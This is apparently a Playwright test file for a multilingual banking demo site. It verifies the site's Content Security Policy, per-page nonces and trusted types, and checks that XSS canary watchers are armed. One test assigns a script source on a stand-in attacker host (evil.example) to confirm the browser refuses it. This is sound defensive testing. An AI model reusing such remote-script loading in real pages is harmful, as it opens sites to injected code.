import { expect, test } from '../../support/test';
import { isLocalPlatform } from '../../support/urls';
import { attack } from '../../support/xss';

const LANGUAGES = ['de', 'en', 'fr', 'hr', 'it', 'sl'];
const PAGES = ['index', 'lists', 'banksearch', 'calculators', 'forms', 'club', 'market', 'chrome'];

test.describe('the Content Security Policy of every page', () => {
  test('every demo page in every language and the bank pages carry it, each with a fresh nonce', async ({
    request,
  }) => {
    const paths = [
      ...LANGUAGES.flatMap((language) => PAGES.map((page) => `/${language}/${page}.html`)),
      '/banken/tirol/',
      '/banken/steiermark/',
    ];
    const nonces = new Set<string>();
    for (const path of paths) {
      const response = await request.get(path);
      expect(response.status(), path).toBe(200);
      const policy = response.headers()['content-security-policy'] ?? '';
      const nonce = /script-src 'nonce-([^']+)' 'strict-dynamic'/.exec(policy)?.[1];
      expect(nonce, `${path} has an enforced nonce-based script-src`).toBeDefined();
      expect(policy, path).toContain("require-trusted-types-for 'script'");
      expect(policy, path).toContain("object-src 'none'; base-uri 'none'; frame-ancestors 'self'");
      expect(policy, path).not.toMatch(/unsafe-eval|script-src[^;]*unsafe-inline/);
      const body = await response.text();
      expect(body, `${path}: the shell tag carries the nonce`).toContain(`nonce="${nonce}"`);
      nonces.add(nonce ?? '');
    }
    expect(nonces.size).toBe(paths.length);
  });

  test.describe('the guard', () => {
    test.skip(!isLocalPlatform, 'needs the local platform');

    test('fails a test whose page violated the policy (an inline style without the nonce)', async ({
      page,
    }) => {
      test.fail(true, 'the CSP guard must fail this test');
      await page.goto('/de/forms.html');
      // Ends only once the browser has reported the violation (the guard's listener, added
      // first, has passed it on), so a busy machine cannot let the test end before it.
      await page.evaluate(
        () =>
          new Promise<void>((resolve) => {
            document.addEventListener('securitypolicyviolation', () => resolve(), { once: true });
            const style = document.createElement('style');
            style.textContent = 'body { outline: 1px solid red }';
            document.head.append(style);
          }),
      );
    });

    test.describe('with a violation provoked on purpose', () => {
      test.use({
        cspExpectations: { violations: [{ directive: 'require-trusted-types-for' }] },
      });

      test('a script URL of an origin not in the remotes file is refused by the default policy', async ({
        page,
      }) => {
        await page.goto('/de/calculators.html');
        // A calculator: the first widget of every page is the cookie banner, empty once decided.
        await expect(
          page.locator('[data-widget^="calculators/"][data-widget-state="mounted"]').first(),
        ).toBeVisible();
        const refused = await page.evaluate(() => {
          const script = document.createElement('script');
          try {
            script.src = 'https://evil.example/remoteEntry.js';
            return 'assigned';
          } catch (error) {
            return (error as Error).name;
          }
        });
        expect(refused).toBe('TypeError');
      });
    });
  });
});

test('the XSS watchers are armed: the canary records a call', async ({ page, context }) => {
  const watch = await attack(context);
  await page.goto('/de/forms.html');
  await page.evaluate(() =>
    (window as unknown as { ctbCanary(id: string): void }).ctbCanary('armed'),
  );
  await expect.poll(() => watch.canaryCalls).toEqual(['armed']);
});
